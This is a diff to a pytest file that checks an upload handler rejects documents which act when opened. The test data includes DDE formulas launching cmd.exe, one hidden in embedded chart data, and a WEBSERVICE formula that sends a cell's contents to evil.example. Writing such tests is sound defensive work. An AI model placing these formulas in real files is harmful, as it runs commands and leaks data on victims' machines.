@@ -250,6 +250,15 @@ ACTIVE_OFFICE = {
     "DDE formula": lambda: _xlsx("=cmd|' /C calc'!A0"),
     "DDE formula, spaced": lambda: _xlsx("=SUM(1)+MSEXCEL |'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
     "WEBSERVICE formula": lambda: _xlsx('=WEBSERVICE("http://evil.example/?"&A1)'),
+    "chart data with a DDE formula": lambda: _docx(lambda p: p.__setitem__(
+        "word/embeddings/Microsoft_Excel_Worksheet.xlsx", _xlsx("=cmd|' /C calc'!A0"))),
+    "chart data with macros": lambda: _docx(lambda p: p.__setitem__(
+        "word/embeddings/Microsoft_Excel_Worksheet.xlsx", _xlsx(edit=lambda q: q.__setitem__(
+            "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")))),
+    "packages nested deep": lambda: _docx(lambda p: p.__setitem__(
+        "word/embeddings/a.docx", _docx(lambda q: q.__setitem__(
+            "word/embeddings/b.docx", _docx(lambda r: r.__setitem__(
+                "word/embeddings/c.xlsx", _xlsx())))))),
     "macro sheet": lambda: _xlsx(edit=lambda p: p.__setitem__(
         "xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/'
                                      b'office/excel/2006/main"/>')),
@@ -287,19 +296,34 @@ def _upload(client, db, name: str, data: bytes):
                 csrf_page=f"/supervision/tasks/{node}")
 
 
+def _payload(case: str) -> bytes:
+    return ACTIVE_OFFICE[case]() if case in ACTIVE_OFFICE else ACTIVE_PDF[case]
+
+
 @pytest.mark.parametrize("case", list(ACTIVE_OFFICE) + list(ACTIVE_PDF))
-def test_evidence_that_acts_when_opened_is_refused_before_it_is_written(env, case):
+def test_evidence_that_acts_when_opened_is_refused_before_it_is_written(tmp_path, case):
     from lantu.store import active, files
 
-    client, _, db, home = env
-    data = ACTIVE_OFFICE[case]() if case in ACTIVE_OFFICE else ACTIVE_PDF[case]
+    data = _payload(case)
     ctype = files.sniff(data)
     assert ctype is not None and active.active_problem(data, ctype) is not None, case
-    ext = files.ALLOWED[ctype]
+    with pytest.raises(files.UploadRefused) as info:
+        files.store_upload(tmp_path, data, max_bytes=10**7, original_name="证明" + files.ALLOWED[ctype])
+    assert info.value.status == 415
+    assert not any(p.is_file() for p in tmp_path.rglob("*"))
+
+
+@pytest.mark.parametrize("case", ["DDEAUTO field split over runs", "external OLE object (Follina)",
+                                  "DDE formula", "script in a compressed object stream"])
+def test_a_report_with_evidence_that_acts_is_refused_and_leaves_nothing(env, case):
+    from lantu.store import files
+
+    client, _, db, home = env
+    data = _payload(case)
     uploads = home / "uploads"
     before = sorted(uploads.rglob("*")) if uploads.exists() else []
     n = _count(db, EvidenceFileRow)
-    r = _upload(client, db, "证明材料" + ext, data)
+    r = _upload(client, db, "证明材料" + files.ALLOWED[files.sniff(data)], data)
     assert r.status_code == 415, (case, r.status_code)
     assert (sorted(uploads.rglob("*")) if uploads.exists() else []) == before
     assert _count(db, EvidenceFileRow) == n
@@ -308,6 +332,8 @@ def test_evidence_that_acts_when_opened_is_refused_before_it_is_written(env, cas
 @pytest.mark.parametrize("data", [
     pytest.param(_docx(link=True), id="docx with a hyperlink"),
     pytest.param(_xlsx(), id="xlsx with a SUM and a hyperlink"),
+    pytest.param(_docx(lambda p: p.__setitem__("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
+                                               _xlsx())), id="docx with chart data"),
     pytest.param(_pdf(b"1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]/Pages 3 0 R>>endobj"),
                  id="pdf opening at a page"),
     pytest.param(PDF, id="plain pdf"),
